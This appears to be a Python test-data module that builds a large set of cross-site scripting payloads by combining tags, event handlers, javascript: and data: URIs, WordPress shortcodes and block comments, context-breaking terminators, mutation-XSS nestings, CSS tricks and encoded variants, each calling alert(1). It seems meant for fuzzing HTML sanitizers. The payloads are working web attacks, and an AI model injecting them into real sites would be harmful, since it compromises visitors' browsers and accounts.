"""Well over a thousand ways to smuggle something that runs into a text, made from their parts; each calls ``alert``.

Nothing here is a list that somebody else gathered: the parts are multiplied with each other.
"""

from collections.abc import Iterator
from html import escape
from itertools import product
from random import Random
from typing import Final

CALL: Final = "alert(1)"
_CORES: Final = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
)
_ELEMENTS: Final = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee", "a href=#",
    "p", "blockquote", "table", "td", "math", "select autofocus", "object data=x", "embed src=x", "button autofocus",
    "figure", "svg><animate", "custom-tag tabindex=1", "wp-mark n=0", "dialog open", "source", "frameset", "h2", "sup",
)  # fmt: skip
_EVENTS: Final = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onbegin", "onpointerenter", "onstart",
    "onanimationstart", "ONERROR", "oNlOaD",
)  # fmt: skip
_FORMS: Final = (
    "<{element} {event}={call}>",
    "<{element} {event}='{call}'>",
    '<{element}\n{event}\t=\n"{call}">',
    "<{element}/{event}={call}//",
    "<{element} x=`>` {event}={call}>",
    "<{element} x='>' {event}={call} x='",
    "<{element}\x0c{event}={call} <",
)
_SCHEMES: Final = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"\x01javascript:{CALL}",
    f"&#106;avascript&colon;{CALL}", f"&#x6A;avascript:{CALL}", f"javascript&#58;{CALL}", f" javascript:{CALL}",
    f"javascript://%0a{CALL}", f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{CALL}", f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}",
)  # fmt: skip
_HOLDERS: Final = (
    '<a href="{0}">x</a>', "<a href={0}>x</a>", "<a href='{0}' target=_top>x</a>", '<img src="{0}">', '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>', '<button formaction="{0}">x</button>', '<object data="{0}"></object>',
    '<embed src="{0}">', '<base href="{0}">', '<link rel=stylesheet href="{0}">', '<meta http-equiv=refresh content="0;url={0}">',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>', '<area href="{0}">', '<blockquote cite="{0}">x</blockquote>',
    '<video poster="{0}"><source src="{0}"></video>', '<math href="{0}">x</math>', '<table background="{0}"><td>x</table>',
    "[embed]{0}[/embed]", '[video src="{0}"]', "[caption caption='{0}']<img src=x>[/caption]",
    '<!-- wp:embed {{"url":"{0}"}} /-->', '<!-- wp:cover {{"url":"{0}"}} --><div></div><!-- /wp:cover -->',
    '<!-- wp:rss {{"feedURL":"{0}"}} /-->', '<!-- wp:acme/x {{"a":"{0}"}} /-->',
    '<div class=wp-block-file><a href="{0}">x</a></div>', '<script data-telegram-post="{0}"></script>',
    '<blockquote class=twitter-tweet cite="{0}"><p>x</p>— A (@a) <a href="{0}">June 9, 2023</a></blockquote>',
)  # fmt: skip
_ENDS: Final = (
    '"', "'", ">", '">', "'>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</template>", "</svg>", "</math>", "</select>", "</iframe>", "</xmp>", "</plaintext>", "*/", "\\", "[/caption]",
    "<!-- /wp:paragraph -->", "</wp-mark>", "`", "\u2028", "\ufeff",
)  # fmt: skip
_CHANGING: Final = (
    "svg", "math", "style", "noscript", "template", "title", "textarea", "select", "table", "mtext", "mglyph", "foreignobject",
    "annotation-xml encoding=text/html", "desc", "xmp", "form", "p", "a",
)  # fmt: skip
_STYLES: Final = (
    "<p style='background:url(javascript:{0})'>x</p>", "<style>@import 'javascript:{0}'</style>",
    "<p style='width:expression({0})'>x</p>", "<style>*{{background:url(https://t.example/x)}}</style>",
    "<link rel=stylesheet href=https://t.example/x.css>", "<p style=position:fixed;inset:0>x</p>",
    "<svg><style><img src=x onerror={0}></style></svg>", "<p style='-moz-binding:url(https://t.example/x#x)'>x</p>",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """Return all of them, in an order that is the same each time."""
    found = list(dict.fromkeys([*_handlers(), *_addresses(), *_ways_out(), *_changing(), *_encoded()]))
    Random(7).shuffle(found)
    return tuple(found)


def _handlers() -> Iterator[str]:
    for place, (element, event) in enumerate(product(_ELEMENTS, _EVENTS)):
        for step in (0, 3):
            form = _FORMS[(place + step) % len(_FORMS)]
            yield form.format(element=element, event=event, call=CALL)


def _addresses() -> Iterator[str]:
    return (holder.format(scheme) for holder, scheme in product(_HOLDERS, _SCHEMES))


def _ways_out() -> Iterator[str]:
    return (f"{end}{core}" for end, core in product(_ENDS, _CORES))


def _changing() -> Iterator[str]:
    """Yield what a parser reads in one way and a browser, when it is read again, in another."""
    for outer, inner in product(_CHANGING, repeat=2):
        if outer != inner:
            yield f"<{outer}><{inner}><img title='</{inner.split()[0]}><img src=x onerror={CALL}>'>"
    yield from (style.format(CALL) for style in _STYLES)


def _encoded() -> Iterator[str]:
    for core in _CORES:
        yield escape(core)
        yield escape(escape(core))
        yield core.replace("<", "\\u003c").replace(">", "\\u003e")
        yield core.replace("<", "%3C").replace(">", "%3E")
        yield core.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
        yield core.replace("<", "+ADw-").replace(">", "+AD4-")
        yield core.replace("script", "scr\x00ipt").replace("img", "im\x00g").replace("svg", "s\x00vg")
        yield core.replace("<", "<\x00")
        yield "{{" + core + "}}{% now 'Y' %}${" + CALL + "}"
